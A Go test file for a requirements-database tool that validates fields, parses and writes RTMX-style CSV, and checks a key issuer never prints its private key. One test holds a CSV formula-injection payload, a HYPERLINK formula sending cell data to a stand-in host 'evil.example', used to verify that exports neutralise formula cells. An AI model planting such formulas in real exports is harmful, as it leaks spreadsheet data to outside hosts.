package main

import (
	"bytes"
	"encoding/csv"
	"encoding/hex"
	"errors"
	"fmt"
	"os"
	"strconv"
	"strings"
	"testing"
	"time"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"
)

func valid() Requirement {
	phase, effort := 2, 1.5
	r := Requirement{
		ReqID: "REQ-SW-001", Category: "SOFTWARE", RequirementText: "Process ranges", Status: "PARTIAL",
		Phase: &phase, EffortWeeks: &effort, Dependencies: []string{"REQ-SW-002"},
		StartedDate: "2025-01-15", CompletedDate: "2025-01-29",
	}
	r.Normalize()
	return r
}

// TestValidateNamesTheFieldAndTheRule checks that each rule of a
// requirement, broken alone, is reported on its field with its rule, and
// that a valid requirement passes.
func TestValidateNamesTheFieldAndTheRule(t *testing.T) {
	v := valid()
	require.NoError(t, v.Validate())
	neg, big := -1, 10000
	nan, tooMuch := 0.0, 1001.0
	nan = nan / nan
	for name, tc := range map[string]struct {
		edit        func(*Requirement)
		field, rule string
	}{
		"req_id empty":           {func(r *Requirement) { r.ReqID = "" }, "req_id", "is required"},
		"req_id lower case":      {func(r *Requirement) { r.ReqID = "req-sw-001" }, "req_id", "must match REQ-[A-Z]+-[0-9]+"},
		"req_id no number":       {func(r *Requirement) { r.ReqID = "REQ-SW-" }, "req_id", "must match REQ-[A-Z]+-[0-9]+"},
		"req_id suffix":          {func(r *Requirement) { r.ReqID = "REQ-SW-1\n" }, "req_id", "must match REQ-[A-Z]+-[0-9]+"},
		"category empty":         {func(r *Requirement) { r.Category = "" }, "category", "is required"},
		"category line break":    {func(r *Requirement) { r.Category = "A\nB" }, "category", "control characters or line breaks"},
		"text empty":             {func(r *Requirement) { r.RequirementText = "" }, "requirement_text", "is required"},
		"text too long":          {func(r *Requirement) { r.RequirementText = strings.Repeat("x", maxLong+1) }, "requirement_text", "at most 4096 bytes"},
		"text NUL":               {func(r *Requirement) { r.RequirementText = "a\x00b" }, "requirement_text", "control characters other than tab and line breaks"},
		"text bad UTF-8":         {func(r *Requirement) { r.RequirementText = "a\xffb" }, "requirement_text", "valid UTF-8"},
		"text padded":            {func(r *Requirement) { r.RequirementText = " x" }, "requirement_text", "white space"},
		"status empty":           {func(r *Requirement) { r.Status = "" }, "status", "is required: one of COMPLETE, PARTIAL, MISSING, NOT_STARTED"},
		"status unknown":         {func(r *Requirement) { r.Status = "DONE" }, "status", "must be one of COMPLETE, PARTIAL, MISSING, NOT_STARTED"},
		"status lower case":      {func(r *Requirement) { r.Status = "complete" }, "status", "must be one of"},
		"priority unknown":       {func(r *Requirement) { r.Priority = "URGENT" }, "priority", "must be one of P0, HIGH, MEDIUM, LOW"},
		"phase negative":         {func(r *Requirement) { r.Phase = &neg }, "phase", "integer from 0 to 9999"},
		"phase too big":          {func(r *Requirement) { r.Phase = &big }, "phase", "integer from 0 to 9999"},
		"effort NaN":             {func(r *Requirement) { r.EffortWeeks = &nan }, "effort_weeks", "from 0 to 1000"},
		"effort too much":        {func(r *Requirement) { r.EffortWeeks = &tooMuch }, "effort_weeks", "from 0 to 1000"},
		"dependency bad":         {func(r *Requirement) { r.Dependencies = []string{"REQ-SW-2", "nope"} }, "dependencies", "entry 2 must be a requirement ID"},
		"dependency itself":      {func(r *Requirement) { r.Dependencies = []string{"REQ-SW-001"} }, "dependencies", "must not name the requirement itself"},
		"blocks twice":           {func(r *Requirement) { r.Blocks = []string{"REQ-A-1", "REQ-A-1"} }, "blocks", "must not name REQ-A-1 twice"},
		"started not a date":     {func(r *Requirement) { r.StartedDate = "2025-02-30" }, "started_date", "YYYY-MM-DD"},
		"completed not a date":   {func(r *Requirement) { r.CompletedDate = "29/01/2025" }, "completed_date", "YYYY-MM-DD"},
		"completed before start": {func(r *Requirement) { r.CompletedDate = "2025-01-01" }, "completed_date", "must not be before started_date"},
		"assignee too long":      {func(r *Requirement) { r.Assignee = strings.Repeat("a", maxShort+1) }, "assignee", "at most 256 bytes"},
		"external_id C1":         {func(r *Requirement) { r.ExternalID = "JIRA\u0085" }, "external_id", "control characters"},
	} {
		t.Run(name, func(t *testing.T) {
			r := valid()
			tc.edit(&r)
			err := r.Validate()
			var ve *ValidationError
			require.ErrorAs(t, err, &ve)
			require.Len(t, ve.Fields, 1, "%v", err)
			assert.Equal(t, tc.field, ve.Fields[0].Field)
			assert.Contains(t, ve.Fields[0].Rule, tc.rule)
			assert.Contains(t, err.Error(), "field "+tc.field+": ")
		})
	}
}

// TestValidateReportsEveryField checks that a requirement breaking several
// rules is reported with all of them, not only the first.
func TestValidateReportsEveryField(t *testing.T) {
	r := Requirement{ReqID: "x", Status: "done"}
	r.Normalize()
	var ve *ValidationError
	require.ErrorAs(t, r.Validate(), &ve)
	var fields []string
	for _, f := range ve.Fields {
		fields = append(fields, f.Field)
	}
	assert.Equal(t, []string{"req_id", "category", "requirement_text", "status"}, fields)
}

// TestParseCSVReadsThisRepositorysDatabase reads this repository's own
// .rtmx/database.csv, as RTMX writes it, without a complaint.
func TestParseCSVReadsThisRepositorysDatabase(t *testing.T) {
	f, err := os.Open("../../.rtmx/database.csv")
	require.NoError(t, err)
	defer f.Close()
	reqs, err := ParseCSV(f)
	require.NoError(t, err)
	require.NotEmpty(t, reqs)
	assert.Equal(t, "REQ-DEPLOY-004", reqs[0].ReqID)
	assert.Equal(t, []string{"REQ-SEC-002"}, reqs[0].Dependencies)
	require.NotNil(t, reqs[0].Phase)
	assert.Equal(t, 13, *reqs[0].Phase)
}

// TestParseCSVRefusesNamingTheRowAndColumn checks that a file breaking
// one rule is refused as a whole, with the row, line and column named.
func TestParseCSVRefusesNamingTheRowAndColumn(t *testing.T) {
	header := "req_id,category,requirement_text,status"
	for name, tc := range map[string]struct {
		csv       string
		row, line int
		column    string
		rule      string
	}{
		"bad status in row 2":    {header + "\nREQ-A-1,A,a,MISSING\nREQ-A-2,A,b,DONE\n", 2, 3, "status", "must be one of COMPLETE"},
		"bad req_id in row 1":    {header + "\nREQ-a-1,A,a,MISSING\n", 1, 2, "req_id", "REQ-[A-Z]+-[0-9]+"},
		"missing text":           {header + "\nREQ-A-1,A,,MISSING\n", 1, 2, "requirement_text", "is required"},
		"bad phase":              {header + ",phase\nREQ-A-1,A,a,MISSING,one\n", 1, 2, "phase", "integer"},
		"bad effort":             {header + ",effort_weeks\nREQ-A-1,A,a,MISSING,Inf\n", 1, 2, "effort_weeks", "number of weeks"},
		"bad dependency":         {header + ",dependencies\nREQ-A-1,A,a,MISSING,REQ-A-2|x\n", 1, 2, "dependencies", "entry 2"},
		"duplicate req_id":       {header + "\nREQ-A-1,A,a,MISSING\nREQ-A-1,A,b,MISSING\n", 2, 3, "req_id", "REQ-A-1 is also row 1"},
		"multi-line cell":        {header + "\nREQ-A-1,A,\"two\nlines\",MISSING\nREQ-A-2,A,b,NOPE\n", 2, 4, "status", "must be one of"},
		"unknown column":         {header + ",colour\nREQ-A-1,A,a,MISSING,red\n", 0, 1, "colour", "not a column of RTMX's database.csv"},
		"duplicate column":       {header + ",status\nREQ-A-1,A,a,MISSING,MISSING\n", 0, 1, "status", "appears twice"},
		"required column absent": {"req_id,category,requirement_text\nREQ-A-1,A,a\n", 0, 1, "status", "is required in the header"},
		"wrong number of fields": {header + "\nREQ-A-1,A,a\n", 1, 2, "", "not valid CSV: wrong number of fields"},
		"bare quote":             {header + "\nREQ-A-1,A,a \"b\",MISSING\n", 1, 2, "", "not valid CSV"},
		"empty file":             {"", 0, 1, "", "the file is empty"},
		"header only":            {header + "\n", 1, 2, "", "no rows"},
	} {
		t.Run(name, func(t *testing.T) {
			reqs, err := ParseCSV(strings.NewReader(tc.csv))
			assert.Nil(t, reqs, "a refused file gives no requirement")
			var ie *ImportError
			require.ErrorAs(t, err, &ie)
			assert.Equal(t, tc.row, ie.Row, "row: %v", err)
			assert.Equal(t, tc.line, ie.Line, "line: %v", err)
			assert.Equal(t, tc.column, ie.Column, "column: %v", err)
			assert.Contains(t, ie.Rule, tc.rule)
		})
	}
}

// TestParseCSVTakesRTMXForms checks the forms RTMX writes: columns in
// any order, a byte order mark, pipe- or space-separated references,
// empty optional columns, and priority defaulting to MEDIUM.
func TestParseCSVTakesRTMXForms(t *testing.T) {
	in := "\xef\xbb\xbfstatus,req_id,category,requirement_text,dependencies,blocks,priority\n" +
		"MISSING,REQ-A-1,A,\"one, two\",REQ-B-1|REQ-B-2,REQ-C-1 REQ-C-2,\n"
	reqs, err := ParseCSV(strings.NewReader(in))
	require.NoError(t, err)
	require.Len(t, reqs, 1)
	r := reqs[0]
	assert.Equal(t, "REQ-A-1", r.ReqID)
	assert.Equal(t, "one, two", r.RequirementText)
	assert.Equal(t, []string{"REQ-B-1", "REQ-B-2"}, r.Dependencies)
	assert.Equal(t, []string{"REQ-C-1", "REQ-C-2"}, r.Blocks)
	assert.Equal(t, "MEDIUM", r.Priority)
	assert.Nil(t, r.Phase)
	assert.Nil(t, r.EffortWeeks)
}

// TestWriteCSVRoundTrips checks that an export reads back as the same
// requirements, with RTMX's header.
func TestWriteCSVRoundTrips(t *testing.T) {
	reqs, err := ParseCSV(bytes.NewReader(sampleCSV))
	require.NoError(t, err)
	var buf bytes.Buffer
	require.NoError(t, WriteCSV(&buf, reqs))
	assert.True(t, strings.HasPrefix(buf.String(), strings.Join(Columns, ",")+"\n"))
	again, err := ParseCSV(&buf)
	require.NoError(t, err)
	assert.Equal(t, reqs, again)
}

// TestParseCSVRefusesTooManyRows checks the row limit of an import.
func TestParseCSVRefusesTooManyRows(t *testing.T) {
	var b strings.Builder
	b.WriteString("req_id,category,requirement_text,status\n")
	for i := range maxImportRows + 1 {
		b.WriteString("REQ-A-" + strconv.Itoa(i) + ",A,a,MISSING\n")
	}
	_, err := ParseCSV(strings.NewReader(b.String()))
	var ie *ImportError
	require.True(t, errors.As(err, &ie), "%v", err)
	assert.Equal(t, maxImportRows+1, ie.Row)
	assert.Contains(t, ie.Rule, "at most 10000 rows")
}

// TestWriteCSVQuotesFormulaCells checks that an exported cell a
// spreadsheet would run as a formula begins with a single quote, that
// other cells are written as stored, and that the export reads back as
// the same requirements.
func TestWriteCSVQuotesFormulaCells(t *testing.T) {
	r := valid()
	r.RequirementText = `=HYPERLINK("http://evil.example/?x="&A1,"click")`
	r.Category = "+SUM(1,1)"
	r.Subcategory = "-2+3"
	r.TargetValue = "@SUM(A1)"
	r.Notes = "'=already quoted"
	r.TestModule = "plain text"
	r.Assignee = "it's fine"
	var buf bytes.Buffer
	require.NoError(t, WriteCSV(&buf, []Requirement{r}))
	rows, err := csv.NewReader(bytes.NewReader(buf.Bytes())).ReadAll()
	require.NoError(t, err)
	require.Len(t, rows, 2)
	cell := map[string]string{}
	for i, c := range Columns {
		cell[c] = rows[1][i]
	}
	assert.Equal(t, `'=HYPERLINK("http://evil.example/?x="&A1,"click")`, cell["requirement_text"])
	assert.Equal(t, "'+SUM(1,1)", cell["category"])
	assert.Equal(t, "'-2+3", cell["subcategory"])
	assert.Equal(t, "'@SUM(A1)", cell["target_value"])
	assert.Equal(t, "''=already quoted", cell["notes"])
	assert.Equal(t, "plain text", cell["test_module"])
	assert.Equal(t, "it's fine", cell["assignee"])
	for _, row := range rows[1:] {
		for i, c := range row {
			assert.False(t, c != "" && strings.ContainsRune("=+-@\t\r", rune(c[0])), "column %s begins a formula: %q", Columns[i], c)
		}
	}
	again, err := ParseCSV(&buf)
	require.NoError(t, err)
	assert.Equal(t, []Requirement{r}, again)
}

// TestParseCSVDropsTheFormulaQuote checks that an import drops the single
// quote an export puts before a formula cell, and only that quote.
func TestParseCSVDropsTheFormulaQuote(t *testing.T) {
	in := "req_id,category,requirement_text,status,notes,assignee,target_value\n" +
		"REQ-A-1,'+CAT,'=1+1,MISSING,''@x,'quoted,'\n"
	reqs, err := ParseCSV(strings.NewReader(in))
	require.NoError(t, err)
	require.Len(t, reqs, 1)
	r := reqs[0]
	assert.Equal(t, "+CAT", r.Category)
	assert.Equal(t, "=1+1", r.RequirementText)
	assert.Equal(t, "'@x", r.Notes)
	assert.Equal(t, "'quoted", r.Assignee)
	assert.Equal(t, "'", r.TargetValue)
}

// TestIssuerPrintsNoKey: the demo issuer, printed with any verb, shows
// none of its private key.
func TestIssuerPrintsNoKey(t *testing.T) {
	is, err := newIssuer(time.Hour)
	if err != nil {
		t.Fatal(err)
	}
	for _, verb := range []string{"%v", "%+v", "%#v", "%s", "%x"} {
		for _, v := range []any{is, *is, struct{ I *issuer }{is}} {
			out := fmt.Sprintf(verb, v)
			for _, secret := range []string{hex.EncodeToString(is.priv), fmt.Sprint([]byte(is.priv)), string(is.priv)} {
				if strings.Contains(out, secret) {
					t.Errorf("%s of %T prints the private key: %q", verb, v, out)
				}
			}
		}
	}
}
